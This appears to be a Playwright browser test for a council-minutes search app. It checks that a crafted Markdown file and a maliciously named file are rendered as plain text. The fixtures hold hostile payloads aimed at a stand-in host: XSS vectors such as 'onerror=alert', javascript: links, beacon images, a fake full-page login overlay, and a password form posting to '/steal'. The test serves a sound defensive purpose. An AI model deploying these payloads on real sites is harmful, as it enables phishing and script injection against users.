"""Minutes text is text: a hostile file, ingested and shown in a real Chromium, draws nothing.

A crafted Markdown file carries everything an attacker would try in the
app's item and meeting views: a remote image beacon, autoplaying remote
video and audio, an SVG image, a full-page fixed paragraph pretending the
session expired, a password form posting elsewhere, ``javascript:`` links,
an iframe and Markdown images and autolinks. A second file is *named*
``<img src=x onerror=alert(9)>.txt`` and its council (body) name carries an
``<img>`` too. The test searches, opens the item and the meeting, and checks
in the browser that

- no request leaves 127.0.0.1 (every request is recorded; others are aborted),
- no element from the files exists (no ``hostile-*`` id, no img, media,
  iframe, form, password field, SVG image or ``javascript:`` link in the
  results or the detail view), and no dialog (``alert``) opened,
- nothing covers the page (no fixed or absolute element from the views, and
  the app's own elements are what is on top at the centre and corners),
- the hostile text is still there, as text.
"""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlsplit

import pytest

from tests.browser import ARTIFACTS, free_port, launch, need_chromium

pytestmark = [pytest.mark.slow, pytest.mark.browser]

EVIL = "http://203.0.113.9"  # TEST-NET-3: never routed, and aborted by the test anyway

HOSTILE_MD = f"""---
title: Protokoll Trygghetsrådet <img src="{EVIL}/title.png" id="hostile-title">
municipality: Arboga
date: 2023-05-04
body: Trygghetsrådet <img src="{EVIL}/body-fm.png" id="hostile-body-fm">
---
# Protokoll 2023-05-04

## 1. Stationsklotter vid resecentrum <img src={EVIL}/heading.png id=hostile-heading>

Stationsklotter diskuterades. <img src="{EVIL}/beacon.png" id="hostile-img" width="1" height="1">

<video id="hostile-video" autoplay muted src="{EVIL}/v.mp4"></video>
<audio id="hostile-audio" autoplay src="{EVIL}/a.mp3"></audio>
<svg id="hostile-svg" width="10" height="10"><image href="{EVIL}/svg.png" width="10" height="10"/></svg>

<p id="hostile-cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#fff;font-size:40px">Sessionen har gått ut. Logga in på kommunens portal</p>

<form id="hostile-form" action="{EVIL}/steal" method="post"><input id="hostile-password" type="password" name="pw"><button>Logga in</button></form>

[Klicka här](javascript:alert(1)) eller <a id="hostile-js" href="javascript:alert(2)">här</a> eller <{EVIL}/autolink>

<iframe id="hostile-iframe" src="{EVIL}/frame"></iframe>

![stationsbild]({EVIL}/md-image.png)

<style>body {{ display: none }}</style>

## 2. Övriga frågor

Stationsklotter tas upp igen vid nästa möte.
"""

NAMED_FILE = "<img src=x onerror=alert(9)>.txt"
NAMED_TEXT = """Protokoll
Sammanträdesdatum: 2023-06-01

§ 1 Stationsklotter i gångtunneln
Stationsklotter i gångtunneln har sanerats. Polisen följer upp.

§ 2 Övriga frågor
Inga övriga frågor.
"""
# A sidecar gives the named file's council a name with an <img> in it.
NAMED_SIDECAR = f"""body: Trygghetsråd <img src="{EVIL}/body.png" id="hostile-body">
municipality: Arboga
date: 2023-06-01
"""

# Elements that no document may put in the page (the app itself has none of
# them in the results or the detail view).
FORBIDDEN = ("img", "video", "audio", "iframe", "frame", "object", "embed", "form", "input", "svg", "image",
             "style", "link", "meta", "script", "base")


def write_hostile_files(folder: Path) -> list[Path]:
    """Write the hostile Markdown file and the file with the hostile name into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    md = folder / "stationsklotter-2023-05-04.md"
    md.write_text(HOSTILE_MD, encoding="utf-8")
    named = folder / NAMED_FILE
    named.write_text(NAMED_TEXT, encoding="utf-8")
    (folder / (NAMED_FILE + ".meta.yaml")).write_text(NAMED_SIDECAR, encoding="utf-8")
    return [md, named]


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    """The app, launched through ``radslag.serve``, over an archive of the hostile files only."""
    need_chromium()
    from ingest.pipeline import ingest_paths
    from radslag import serve as server
    from radslag.config import load_settings

    root = tmp_path_factory.mktemp("hostile")
    write_hostile_files(root / "in")
    # keyword search is enough here and keeps the test cheap: no models
    settings = load_settings(archive_dir=root / "archive", embed=False, enrich=False)
    report = ingest_paths([str(root / "in")], settings, progress=False)
    assert not report.failed, [(f.source, f.message) for f in report.failed]
    port = free_port()
    app = server.serve(settings, port=port, corpus=root / "none", block=False)
    yield f"http://127.0.0.1:{port}", settings
    app.close()


@pytest.fixture(scope="module")
def browser_page(hostile_app):
    url, _ = hostile_app
    sync_api = pytest.importorskip("playwright.sync_api")
    requests: list[str] = []
    dialogs: list[str] = []
    with sync_api.sync_playwright() as p:
        browser = launch(p, "--autoplay-policy=no-user-gesture-required")
        context = browser.new_context(viewport={"width": 1280, "height": 1000})

        def route(r):
            requests.append(r.request.url)
            host = urlsplit(r.request.url).hostname
            if r.request.url.startswith(("data:", "blob:")) or host in ("127.0.0.1", "localhost"):
                r.continue_()
            else:
                r.abort()

        context.route("**/*", route)
        page = context.new_page()
        page.on("request", lambda req: requests.append(req.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(url, wait_until="domcontentloaded")
        page.locator("#query textarea, #query input").first.wait_for(timeout=60_000)
        yield page, requests, dialogs
        browser.close()


def _outside(requests: list[str]) -> list[str]:
    out = []
    for url in requests:
        if url.startswith(("data:", "blob:", "about:")):
            continue
        if urlsplit(url).hostname not in ("127.0.0.1", "localhost"):
            out.append(url)
    return sorted(set(out))


_FOREIGN_ELEMENTS_JS = """
([roots, tags]) => {
  const found = [];
  for (const sel of roots) {
    for (const root of document.querySelectorAll(sel)) {
      for (const tag of tags) {
        for (const el of root.querySelectorAll(tag)) found.push(sel + ' ' + tag + ' ' + el.outerHTML.slice(0, 120));
      }
    }
  }
  for (const el of document.querySelectorAll('[id^="hostile"], [href^="javascript:" i], [src*="203.0.113.9"], [href*="203.0.113.9"], [action]'))
    found.push(el.outerHTML.slice(0, 120));
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.getAttributeNames()) if (a.startsWith('on')) found.push(el.tagName + ' ' + a);
  }
  return found;
}
"""

_COVER_JS = """
([roots]) => {
  const bad = [];
  const w = window.innerWidth, h = window.innerHeight;
  const rootSel = roots.join(',');
  // nothing inside the views is fixed or sticky (Gradio's own status overlays are absolute
  // inside their block, so absolute is judged below, on the document's own text)
  for (const el of document.querySelectorAll(roots.map(r => r + ' *').join(','))) {
    const pos = getComputedStyle(el).position;
    if (pos === 'fixed' || pos === 'sticky') bad.push('fixed/sticky in a view: ' + el.tagName);
  }
  // the elements that hold the attacker's text: in the flow of their view, and not page-sized
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const holders = [];
  while (walker.nextNode())
    if (walker.currentNode.nodeValue.includes('Sessionen har gått ut')) holders.push(walker.currentNode.parentElement);
  for (const holder of holders) {
    const r = holder.getBoundingClientRect();
    if (r.width * r.height > 0.3 * w * h) bad.push('the document text fills the window: ' + holder.tagName);
    for (let el = holder; el && !el.matches(rootSel); el = el.parentElement) {
      const pos = getComputedStyle(el).position;
      if (pos !== 'static' && pos !== 'relative') bad.push('the document text is positioned: ' + el.tagName + ' ' + pos);
      if (el === document.body) { bad.push('the document text is outside the views'); break; }
    }
  }
  return bad;
}
"""

VIEWS = ["#results", "#detail"]


def _check_page(page, requests, dialogs, where: str) -> None:
    page.wait_for_timeout(800)  # give a beacon, a media element or a frame the time to load
    foreign = page.evaluate(_FOREIGN_ELEMENTS_JS, [VIEWS, list(FORBIDDEN)])
    assert foreign == [], f"{where}: elements from the document: {foreign}"
    covering = page.evaluate(_COVER_JS, [VIEWS])
    assert covering == [], f"{where}: something covers the page: {covering}"
    assert _outside(requests) == [], f"{where}: requests left 127.0.0.1: {_outside(requests)}"
    assert dialogs == [], f"{where}: a dialog opened: {dialogs}"


def _search(page, query: str) -> None:
    box = page.locator("#query textarea, #query input").first
    box.fill(query)
    page.locator("#search-btn").click()
    page.locator("#results .hit").first.wait_for(timeout=60_000)


def _detail(page, wait_text: str) -> str:
    detail = page.locator("#detail")
    detail.get_by_text(wait_text).first.wait_for(timeout=30_000)
    return detail.inner_text()


def _open(page, button: str, wait_text: str) -> str:
    page.locator(button).click(timeout=15_000)  # a page covered by the document cannot be clicked
    detail = page.locator("#detail")
    detail.get_by_text(wait_text).first.wait_for(timeout=30_000)
    return detail.inner_text()


def _goto_item(page, item_id: str) -> None:
    """Open the app at the shareable address of a search and an item (``?q=…&item=…``)."""
    base = page.url.split("?")[0]
    page.goto(f"{base}?q=stationsklotter&item={int(item_id)}", wait_until="domcontentloaded")
    page.locator("#results .hit").first.wait_for(timeout=60_000)


def test_hostile_file_is_shown_as_text_and_draws_nothing(browser_page):
    page, requests, dialogs = browser_page
    _search(page, "stationsklotter")
    results = page.locator("#results")
    assert results.locator(".hit").count() >= 2  # both files are found
    _check_page(page, requests, dialogs, "search results")
    text = results.inner_text()
    assert "<img src=x onerror=alert(9)>.txt" in text  # the file name, as text
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / "hostile-search.png"), full_page=True)

    hits = results.locator(".hit")
    ids = {hits.nth(i).inner_text(): hits.nth(i).get_attribute("data-item") for i in range(hits.count())}
    md_item = next(v for k, v in ids.items() if "resecentrum" in k)
    named_item = next(v for k, v in ids.items() if "gångtunneln" in k)

    _goto_item(page, md_item)  # the address opens the item: checked before any click
    item = _detail(page, "Stationsklotter diskuterades")
    _check_page(page, requests, dialogs, "item view")
    assert "Sessionen har gått ut" in item  # the attacker's text is still there, as text
    assert "javascript:alert(2)" in item or "javascript" in item
    page.screenshot(path=str(ARTIFACTS / "hostile-item.png"), full_page=True)

    meeting = _open(page, "#open-meeting", "Övriga frågor")
    _check_page(page, requests, dialogs, "meeting view")
    assert "Sessionen har gått ut" in meeting
    page.screenshot(path=str(ARTIFACTS / "hostile-meeting.png"), full_page=True)

    _goto_item(page, named_item)
    item = _detail(page, "har sanerats")
    _check_page(page, requests, dialogs, "item view of the named file")
    assert "<img src=x onerror=alert(9)>.txt" in item  # file name shown as text
    meeting = _open(page, "#open-meeting", "Inga övriga frågor")
    _check_page(page, requests, dialogs, "meeting view of the named file")
    assert 'id="hostile-body"' in meeting or "hostile-body" in meeting  # the body name, as text
    page.screenshot(path=str(ARTIFACTS / "hostile-named-meeting.png"), full_page=True)


def test_hostile_file_in_archive_tab_is_text(browser_page):
    """The archive table lists file names and body names: as text, nothing drawn."""
    page, requests, dialogs = browser_page
    tab = page.get_by_role("tab", name="Arkiv")
    if tab.count() == 0:
        pytest.skip("no archive tab in this app version")
    tab.first.click()
    page.get_by_text(NAMED_FILE).first.wait_for(state="attached", timeout=30_000)
    _check_page(page, requests, dialogs, "archive tab")
    found = page.evaluate(
        "() => Array.from(document.querySelectorAll('[id^=\"hostile\"], img[src=\"x\"], img[src*=\"203.0.113.9\"]')).length")
    assert found == 0
